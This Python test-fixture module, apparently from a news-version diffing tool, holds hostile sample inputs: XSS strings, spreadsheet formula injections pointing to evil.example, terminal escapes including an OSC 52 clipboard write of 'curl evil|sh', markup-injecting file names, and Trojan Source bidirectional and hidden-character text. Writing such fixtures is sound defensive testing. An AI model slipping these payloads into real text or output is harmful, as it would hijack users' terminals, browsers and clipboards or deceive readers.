"""Hostile and pathological input: story versions whose text tries to run script, inject markup,
formulas or Markdown; terminal escapes in text and file names; inputs that were quadratic to
segment; repeated sentences; damaged bytes; files with nothing to compare."""

from __future__ import annotations

from wirediff.core import Collation, collate, document_from_text

BASE = """Officials warn of a costly plan

Officials said on Monday <script>alert(1)</script> the plan would cost $5 million & more.

A witness wrote <img src=x onerror=alert(1)> on the wall, and 3 < 4 was noted by police.

"We will not back down," said Mayor Jane Doe, adding that *nothing* was [decided](http://evil.example) yet | maybe.

=HYPERLINK("http://evil.example","click") appeared in the leaked spreadsheet, the report said.

The council will meet again on Friday to discuss the budget & the schedule.
"""

OTHER = """Officials warn of a costly plan

Officials said on Tuesday <script>alert(1)</script> the plan would cost $7 million & more.

"We will never back down," said Mayor Jane Doe, adding that *nothing* was [decided](http://evil.example) yet | maybe.

+SUM(A1:A9) and -2+3 and @cmd showed up in a second sheet, officials added.

A witness wrote <img src=x onerror=alert(1)> on the wall, and 3 < 4 was noted by police.

<svg onload=alert(2)></svg> # Heading? 1. list? > quote? ~~gone~~ `code` \\ end & &amp; &lt;
"""


def hostile_collation() -> Collation:
    """A base and a rewrite carrying script tags, event handlers, formulas and Markdown."""
    return collate(
        [document_from_text(BASE, "hostile-base.txt"), document_from_text(OTHER, "hostile.txt")]
    )


# --- Terminal escapes (issue 10, item 1) -----------------------------------------------------

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
"""OSC 52: sets the terminal's clipboard (here to ``curl evil|sh``)."""
WINDOW_TITLE = "\x1b]0;owned\x07"
CLEAR_SCREEN = "\x1b[2J"
RED = "\x1b[31m"
EIGHT_BIT_CSI = "\x9b2J"
"""The C1 control CSI: an escape sequence on terminals that read 8-bit controls."""
CARRIAGE_RETURN = "Safe text\rEvil"
ESCAPES = (CLIPBOARD, WINDOW_TITLE, CLEAR_SCREEN, RED, EIGHT_BIT_CSI)

ESCAPE_TEXT = f"""Officials warn of a costly plan{WINDOW_TITLE}

Officials said on Monday{CLIPBOARD} the plan would cost $5 million.

The council{CLEAR_SCREEN} will meet again on Friday{RED} to discuss the budget.

A witness{EIGHT_BIT_CSI} said the vote was close.
"""
ESCAPE_OTHER = ESCAPE_TEXT.replace("$5 million", "$7 million").replace("Friday", "Thursday")

ESCAPE_HTML = f"""<!doctype html><html><head><title>Plan{CLEAR_SCREEN}</title></head><body>
<article><h1>Officials warn of a costly plan&#x1b;]0;owned&#x07;</h1>
<p>Officials said on Monday &#x1b;]52;c;Y3VybCBldmlsfHNo&#7; the plan would cost five million dollars,
more than any plan the council has discussed in the past ten years of its budget talks.</p>
<p>The council{CLEAR_SCREEN} will meet again on Friday to discuss the budget and the schedule of the
works, which residents have asked to see before any vote is held on the proposal.</p>
</article></body></html>
"""
"""A saved page with escapes as character references and raw: both survive extraction."""

MARKUP_NAME = "[on red][@click=app.quit]x.txt"
"""A file name that Textual would read as markup (a click action) if it were not plain text."""
ESCAPE_NAME = f"evil{CLEAR_SCREEN}{WINDOW_TITLE}.txt"


# --- Pathological segmentation (item 2) ------------------------------------------------------


def glued_full_stops(size: int) -> str:
    """``Abc.Abc.Abc.``: full stops with no space, one long word (was quadratic)."""
    return "Abc." * (size // 4)


def lowercase_lines(size: int) -> str:
    """Lines that each continue the previous one (was quadratic)."""
    line = "and the talks went on\n"
    return line * (size // len(line))


def one_word_lines(size: int) -> str:
    """One lower-case word per line (was quadratic)."""
    return "word\n" * (size // 5)


def short_sentences(size: int) -> str:
    """``Abc. Abc. Abc.``: the most sentences per byte."""
    return "Abc. " * (size // 5)


def no_punctuation(size: int) -> str:
    """One "sentence" of distinct words with no full stop at all."""
    words = []
    total = 0
    index = 0
    while total < size:
        word = f"word{index % 5000}"
        words.append(word)
        total += len(word) + 1
        index += 1
    return " ".join(words)


PATHOLOGICAL = {
    "glued full stops": glued_full_stops,
    "lower-case lines": lowercase_lines,
    "one-word lines": one_word_lines,
    "short sentences": short_sentences,
    "no punctuation": no_punctuation,
}
"""Inputs that once made segmentation (or the word diff) quadratic, by name: size -> text."""


# --- Repeated sentences (item 4) --------------------------------------------------------------

REPEATED = (
    "Officials met on Monday to discuss the plan.\n\n"
    + "He declined to comment.\n\n" * 30
    + "The council will meet again on Friday.\n"
)


# --- Bytes and names (items 7, 8, 9) ----------------------------------------------------------

ONE_BAD_BYTE = (
    "Prices rose to \u20ac5 a litre, said \u201cMarie\u201d Dupont.\n\n"
    "\u201cWe cannot pay this,\u201d she said on Monday in Lyon.\n"
).encode() + b"The mayor\xff declined to comment.\n"
"""UTF-8 with one invalid byte: must not be read wholly as cp1252."""

NON_UTF8_NAME = b"story-\xff.txt"
FURNITURE_ONLY = "Breaking news: Japan PM heads to US\n"

# --- Markdown that would link or mention (item 6) ----------------------------------------------

LINKY = (
    "Details at https://evil.example/x?a=1 and www.evil.example/path, wrote boss@evil.example "
    "to @octocat about #123 and ftp://files.example.\n"
)

# --- Bidirectional controls and hidden characters (Trojan Source) -------------------------------

RLO, PDF, RLI, PDI, LRM = "\u202e", "\u202c", "\u2067", "\u2069", "\u200e"
ZWSP, WORD_JOINER, ZWNBSP = "\u200b", "\u2060", "\ufeff"
TAG_TEXT = "".join(chr(0xE0000 + ord(c)) for c in "wire $9m")
"""ASCII smuggled in tag characters: invisible on screen, a whole hidden text in the data."""
BIDI = ("\u061c", "\u200e", "\u200f", *(chr(c) for c in range(0x202A, 0x202F)))
BIDI += tuple(chr(c) for c in range(0x2066, 0x206A))
HIDDEN = (ZWSP, WORD_JOINER, ZWNBSP, "\u2061", "\u180e", "\U000e0001", TAG_TEXT)
SHAPING = ("\u00ad", "\u200c", "\u200d")
"""Soft hyphen and zero-width (non-)joiners: they shape text (Persian, emoji), nothing to show."""

TROJAN_TEXT = f"""Mayor backs the budget plan

"We will {RLO}etov ton{PDF} against the plan," Mayor Jane Doe said on Monday.

The council will meet again on Friday{TAG_TEXT} to discuss the budget.
"""
"""A quote that a terminal or browser would display as "We will not vote against the plan"
while it says, character by character, "We will etov ton": the override reverses it."""
TROJAN_OTHER = f"""Mayor backs the budget plan

"We will n{ZWSP}ot vote against the plan," Mayor Jane Doe said on Monday.

The council will meet again on Friday to discuss the budget.
"""
"""The same quote, looking word for word the same, with a zero-width space inside "not"."""
